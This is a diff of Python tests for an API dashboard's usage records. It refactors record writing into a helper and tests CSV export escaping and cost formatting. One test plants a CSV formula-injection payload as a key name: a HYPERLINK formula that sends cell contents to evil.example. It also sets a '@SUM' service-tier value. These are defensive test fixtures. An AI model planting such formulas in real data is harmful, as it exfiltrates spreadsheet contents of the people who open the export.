@@ -177,22 +177,28 @@ def test_request_detail_is_the_tenants_own_only(a_client: httpx.Client, dash: Da
                                                                             dash.b.id: dash.b.requests}
 
 
+async def _write_usage(dash: DashEnv, journal: Path, *records: UsageRecord) -> None:
+    """Rows written straight into the dashboard's database, as the usage writer writes them."""
+    db = Database.from_url(dash.db_url)
+    writer = UsageWriter(db, PriceTable(), journal_dir=journal)
+    for record in records:
+        writer.record(record)
+    assert await writer.flush()
+    writer.journal.close()
+    await db.dispose()
+
+
 async def test_csv_exports_quote_a_key_name_or_tier_that_starts_a_formula(dash: DashEnv, tmp_path: Path) -> None:
     """A tenant names its keys; an upstream names the service tier: either may start a formula."""
     name = '=HYPERLINK("http://evil.example/?"&A1,"open")'
     async with httpx.AsyncClient(base_url=dash.url, headers={"authorization": f"Bearer {ADMIN_KEY}"}) as admin:
         key = (await admin.post("/admin/v1/keys", json={"tenant_id": dash.a.id, "name": name})).json()
     at = time.time() - 60 * 86400  # outside every range the other tests read
-    db = Database.from_url(dash.db_url)
-    writer = UsageWriter(db, PriceTable(), journal_dir=tmp_path)
-    writer.record(UsageRecord(
+    await _write_usage(dash, tmp_path, UsageRecord(
         request_id=uuid.uuid4().hex, key_id=key["id"], tenant_id=dash.a.id, model="echo", deployment="d",
         provider="openai", endpoint="chat.completions", started_at=at, status=200, prompt_tokens=3,
         completion_tokens=2, cost=0.5, service_tier="@SUM(1+1)",
     ))  # fmt: skip
-    assert await writer.flush()
-    writer.journal.close()
-    await db.dispose()
     day = datetime.fromtimestamp(at, UTC).date().isoformat()
     params = {"start": day, "end": day, "bucket": "day"}
     with httpx.Client(base_url=dash.url) as client:
@@ -207,17 +213,11 @@ async def test_request_costs_carry_no_floating_noise(dash: DashEnv, tmp_path: Pa
     """A cost as its arithmetic left it (0.1 + 0.2) reads 0.3 in the log, the detail and the CSV;
     a tiny one is written in the CSV in plain decimals (0.00000165), never with an exponent."""
     at = time.time() - 62 * 86400  # a day of its own, outside every range the other tests read
-    db = Database.from_url(dash.db_url)
-    writer = UsageWriter(db, PriceTable(), journal_dir=tmp_path)
-    for cost in (0.1 + 0.2, (3 * 0.15 + 2 * 0.6) / 1e6):
-        writer.record(UsageRecord(
-            request_id=uuid.uuid4().hex, key_id=dash.a.key_ids[0], tenant_id=dash.a.id, model="echo",
-            deployment="d", provider="openai", endpoint="chat.completions", started_at=at, status=200,
-            prompt_tokens=3, completion_tokens=2, cost=cost,
-        ))  # fmt: skip
-    assert await writer.flush()
-    writer.journal.close()
-    await db.dispose()
+    await _write_usage(dash, tmp_path, *(UsageRecord(
+        request_id=uuid.uuid4().hex, key_id=dash.a.key_ids[0], tenant_id=dash.a.id, model="echo",
+        deployment="d", provider="openai", endpoint="chat.completions", started_at=at, status=200,
+        prompt_tokens=3, completion_tokens=2, cost=cost,
+    ) for cost in (0.1 + 0.2, (3 * 0.15 + 2 * 0.6) / 1e6)))  # fmt: skip
     day = datetime.fromtimestamp(at, UTC).date().isoformat()
     params = {"start": day, "end": day, "tz": "UTC"}
     with httpx.Client(base_url=dash.url) as client:
